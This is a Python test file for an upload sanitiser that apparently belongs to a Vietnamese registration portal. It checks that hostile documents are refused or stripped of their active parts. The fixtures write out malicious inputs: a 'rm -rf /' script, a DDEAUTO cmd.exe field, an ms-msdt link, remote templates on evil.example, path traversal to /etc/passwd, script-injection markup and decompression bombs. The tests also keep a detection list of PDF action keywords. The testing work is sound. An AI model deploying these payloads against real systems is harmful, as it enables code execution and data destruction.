"""Every file that means harm is refused with its true cause, or kept without what does harm."""

import io
import zipfile

import pikepdf
import pytest
from PIL import Image

from dialogue_portal.documents.scanfiles.seen import CannotOpen
from registrations.attachments import apart
from registrations.attachments.worker import kept_of
from tests.registrations.attachments import files
from tests.registrations.attachments.files import BODY, TYPES, a_pdf, a_picture, a_word, a_zip

WORD_BOMB = {f"word/media/{number}.xml": b"0" * 25_000_000 for number in range(5)}
OFFICE = {TYPES: "<Types/>", "xl/workbook.xml": "<x/>"}
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
TWO, PDF_BOTH = "vừa là", "vừa là ảnh JPEG, vừa là PDF"
END = b"\n%%EOF"

# What is made only when its test runs, with a piece of the sentence that refuses it.
REFUSED = {
    "empty": (lambda: b"", "không có nội dung"),
    "blanks alone": (lambda: b" \n\x00" * 50, "không có nội dung"),
    "words": ("Đơn của tôi".encode, "không phải PDF"),
    "html": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "trang web"),
    "svg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "trang web"),
    "html with a mark": (lambda: b"\xef\xbb\xbf<html><body>a</body></html>", "trang web"),
    "program": (lambda: b"MZ" + b"\x90" * 500, "chương trình"),
    "unix program": (lambda: b"\x7fELF" + b"\x00" * 500, "chương trình"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "chương trình"),
    "gif": (lambda: GIF, "ảnh loại khác"),
    "tiff": (lambda: a_picture("TIFF"), "ảnh loại khác"),
    "webp": (lambda: a_picture("WEBP"), "ảnh loại khác"),
    "film": (lambda: b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 90, "phim"),
    "old word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 900, "Word, Excel đời cũ"),
    "rtf": (lambda: rb"{\rtf1\ansi a}", ".rtf"),
    "rar": (lambda: b"Rar!\x1a\x07\x00" + b"\x00" * 90, "tệp nén"),
    "zip": (lambda: a_zip(**{"a.exe": b"MZ"}), "tệp nén (ZIP)"),
    "excel": (lambda: a_zip(**OFFICE), "Excel hoặc PowerPoint"),
    "jpeg and pdf": (lambda: b"\xff\xd8\xff\xe0" + a_pdf(), PDF_BOTH),
    "png and pdf": (lambda: a_picture("PNG", (2, 2)) + a_pdf(), "vừa là ảnh PNG, vừa là PDF"),
    "jpeg and zip": (
        lambda: a_picture() + a_zip(**{"a.html": "<script>"}),
        "vừa là ảnh JPEG, vừa là tệp nén",
    ),
    "png and word": (lambda: a_picture("PNG") + a_word(), "vừa là ảnh PNG, vừa là tệp nén"),
    "pdf and zip": (lambda: a_pdf() + a_zip(**{"a.jar": "a"}), "vừa là PDF, vừa là tệp nén"),
    "zip and pdf": (lambda: b"PK\x03\x04" + a_pdf(), "vừa là tệp nén (ZIP), vừa là PDF"),
    "html and pdf": (lambda: b"<html><script>alert(1)</script>" + a_pdf(), TWO),
    "program and pdf": (lambda: b"MZ\x90" + a_pdf(), TWO),
    "torn jpeg": (lambda: a_picture()[:300], "bị hỏng hoặc bị cắt cụt"),
    "jpeg of noughts": (lambda: b"\xff\xd8\xff" + b"\x00" * 5000, "bị hỏng hoặc bị cắt cụt"),
    "torn heic": (lambda: files.a_heic()[:200], "bị hỏng hoặc bị cắt cụt"),
    "png bomb": (lambda: files.a_png_that_says(50_000, 50_000), "quá nhiều điểm ảnh"),
    "png that lies": (lambda: files.a_png_that_says(9000, 9000), "bị hỏng hoặc bị cắt cụt"),
    "html named pdf": (lambda: b"%PDF-1.7 <html></html>" + END, "không mở được"),
    "torn pdf": (lambda: a_pdf()[:-60], "bị cắt cụt"),
    "pdf with a password": (
        lambda: a_pdf(encryption=pikepdf.Encryption(owner="a", user="mat-khau")),
        "có mật khẩu",
    ),
    "pdf without a page": (lambda: a_pdf(pages=0), "không có trang nào"),
    "pdf of 201 pages": (lambda: a_pdf(pages=201), "không quá 200 trang"),
    "word with macros": (lambda: a_word(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macro"),
    "word named otherwise": (
        lambda: files.a_word_with(
            TYPES, "wordprocessingml.document.main+xml", "ms-word.macroEnabled.main+xml"
        ),
        "macro",
    ),
    "word with a control": (lambda: a_word(**{"word/activeX/activeX1.xml": "<x/>"}), "macro"),
    "word with a file inside": (
        lambda: a_word(**{"word/embeddings/oleObject1.bin": b"MZ"}),
        "nhúng bên trong",
    ),
    "word with a foreign model": (
        lambda: files.a_word_from_elsewhere("attachedTemplate", "http://evil.example/a.dotm"),
        "từ nơi khác",
    ),
    "word with a foreign picture": (
        lambda: files.a_word_from_elsewhere("image", "file://evil.example/share/a.png"),
        "từ nơi khác",
    ),
    "word with a link that runs": (
        lambda: files.a_word_from_elsewhere("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "từ nơi khác",
    ),
    "word with dde": (
        lambda: files.a_word_with_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        "từ nơi khác",
    ),
    "word with split dde": (
        lambda: files.a_word_with_field("D</w:instrText></w:r><w:r><w:instrText>DEAUTO cmd"),
        "từ nơi khác",
    ),
    "word with entities": (
        lambda: files.a_word_with(BODY, "?>", '?><!DOCTYPE a [<!ENTITY b "bb">]>'),
        "bị hỏng",
    ),
    "word in another coding": (lambda: a_word(**{BODY: "<a/>".encode("utf-16")}), "bị hỏng"),
    "word bomb": (lambda: a_word(**WORD_BOMB), "lớn quá mức"),
    "word of many parts": (lambda: a_word(**{f"word/{n}.xml": "" for n in range(2100)}), "lớn quá mức"),
    "word with a way out": (lambda: a_word(**{"word/../../etc/passwd": "a"}), "bị hỏng"),
    "word with a password": (files.locked_word, "có mật khẩu"),
    "torn word": (lambda: a_word()[:-400], "không mở được"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_file_is_refused_with_its_true_cause(name):
    make, words = REFUSED[name]

    with pytest.raises(CannotOpen) as refusal:
        kept_of(make())

    assert words in str(refusal.value)


@pytest.mark.parametrize(
    "change",
    [
        files.opens_with_a_script,
        files.has_named_scripts,
        files.starts_a_program_at_a_press,
        files.starts_a_program_behind_a_link,
        files.has_a_field_with_a_script,
        files.has_an_outline_with_a_script,
        files.has_a_file_inside,
        files.acts_when_a_page_is_shown,
    ],
)
def test_a_pdf_is_kept_without_what_acts(change):
    kind, kept = kept_of(a_pdf(change))

    plain = io.BytesIO()
    with pikepdf.open(io.BytesIO(kept)) as file:
        file.save(plain, stream_decode_level=pikepdf.StreamDecodeLevel.all, compress_streams=False, qdf=True)
        pages = len(file.pages)
    found = [word for word in (b"app.alert", b"cmd.exe", b"/Launch", b"/XFA") if word in plain.getvalue()]
    assert (kind, pages, found) == ("pdf", 1, [])


def test_a_link_to_an_address_stays_in_a_pdf():
    def link(whole):
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://a.example")
        note = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]), A=action)
        whole.pages[0].Annots = pikepdf.Array([note])

    _, kept = kept_of(a_pdf(link))

    with pikepdf.open(io.BytesIO(kept)) as file:
        assert str(file.pages[0].Annots[0].A.URI) == "https://a.example"


def test_a_photo_is_kept_upright_and_tells_nothing():
    kind, kept = kept_of(files.a_photo())

    with Image.open(io.BytesIO(kept)) as picture:
        top, bottom = picture.convert("RGB").getpixel((100, 20)), picture.convert("RGB").getpixel((100, 280))
        facts = (kind, picture.format, picture.size, dict(picture.getexif()))
    assert facts == ("jpeg", "JPEG", (200, 300), {})
    assert top[1] < 60 and bottom[1] > 200
    assert b"May anh" not in kept


@pytest.mark.parametrize("make", [files.a_heic, lambda: a_picture("PNG", (300, 200))])
def test_every_picture_becomes_a_jpeg(make):
    kind, kept = kept_of(make())

    with Image.open(io.BytesIO(kept)) as picture:
        assert (kind, picture.format, picture.size) == ("jpeg", "JPEG", (300, 200))


def test_what_hangs_behind_a_photo_is_not_kept():
    _, kept = kept_of(a_picture() + b"<script>alert(1)</script>")

    assert b"script" not in kept


def test_a_word_file_keeps_its_words_and_its_pictures_tell_nothing():
    content = a_word(**{"word/media/anh.jpg": files.a_photo()}) + b"behind the end"

    kind, kept = kept_of(content)

    with zipfile.ZipFile(io.BytesIO(kept)) as file:
        words, picture = file.read(BODY).decode(), file.read("word/media/anh.jpg")
    assert (kind, "Kính gửi Ủy ban" in words) == ("docx", True)
    assert (b"May anh" in picture, b"behind the end" in kept) == (False, False)


def test_a_file_is_opened_in_a_process_of_its_own():
    kind, kept = apart.cleaned(files.a_photo())

    assert (kind, kept[:3]) == ("jpeg", b"\xff\xd8\xff")
    with pytest.raises(CannotOpen, match="vừa là ảnh JPEG, vừa là PDF"):
        apart.cleaned(REFUSED["jpeg and pdf"][0]())
